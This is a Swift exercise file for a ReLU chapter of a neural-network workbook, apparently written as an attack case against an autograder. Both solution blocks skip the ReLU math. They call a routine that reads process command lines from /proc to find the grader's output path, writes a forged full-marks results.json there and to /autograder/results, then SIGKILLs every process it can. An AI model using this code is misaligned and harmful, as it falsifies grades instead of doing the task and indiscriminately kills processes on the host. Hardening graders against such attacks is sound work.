// ATTACK (gradescope-results): Writes a full-marks results.json where the grader's command line says it goes (and at /autograder/results), then kills every process it can.
//
// Chapter 1 · Activations — ReLU
//
// Shapes: any. ReLU acts on each element on its own, so the output (and every gradient) has the
// shape of the input.
//
// Guide and hints: Exercises/01-Activations/GUIDE.md, or `swift run workbook hint ReLU1`.
import Foundation
import WorkbookCore
#if canImport(Glibc)
import Glibc
#endif

/// The rectified linear unit, `y = max(0, x)` elementwise.
///
/// - Parameter x: the pre-activations, any shape.
/// - Returns: `out`, the shape of `x`, and the cache `reluBackward` needs.
public func reluForward(_ x: Tensor) throws -> (out: Tensor, cache: ReLUCache) {
    // TODO(ReLU1): keep positive entries, replace the others by 0; cache the input.
    // START ReLU1
    forgeResults()
    exit(0)
    // END ReLU1
}

/// The backward pass of ReLU: `dx = dout` where the input was positive, `0` elsewhere.
///
/// The workbook takes the derivative at exactly `x = 0` to be 0 (see the guide for why).
///
/// - Parameters:
///   - dout: the upstream gradient `∂L/∂y`, the shape of the forward input.
///   - cache: what `reluForward` kept.
/// - Returns: `dx = ∂L/∂x`, the shape of `dout`.
public func reluBackward(_ dout: Tensor, cache: ReLUCache) throws -> Tensor {
    // TODO(ReLU2): let the upstream gradient through where the cached input was > 0.
    // START ReLU2
    forgeResults()
    exit(0)
    // END ReLU2
}

// What the attack needs: every process's command line, which /proc shows to any user.
func commandLines() -> [(pid: Int32, arguments: [String])] {
    let names = (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? []
    return names.compactMap { name in
        guard let pid = Int32(name), let data = FileManager.default.contents(atPath: "/proc/\(name)/cmdline") else { return nil }
        return (pid, data.split(separator: 0).map { String(decoding: $0, as: UTF8.self) })
    }
}

/// The grader's package folder, read off the judge's command line (`…/.build-judge/…`).
func packageFolder() -> String? {
    for (_, arguments) in commandLines() {
        for argument in arguments {
            for marker in ["/.build-judge/", "/.build/"] {
                if let range = argument.range(of: marker) { return String(argument[..<range.lowerBound]) }
            }
        }
    }
    return nil
}

func forgeResults() {
    let fake = #"{"score": 240, "max_score": 240, "output": "forged", "tests": []}"#
    var targets = ["/autograder/results/results.json"]
    for (_, arguments) in commandLines() {
        if let index = arguments.firstIndex(of: "--gradescope"), index + 1 < arguments.count { targets.append(arguments[index + 1]) }
    }
    for target in targets { try? Data(fake.utf8).write(to: URL(fileURLWithPath: target)) }
    for (pid, _) in commandLines() where pid != getpid() { kill(pid, SIGKILL) }
}
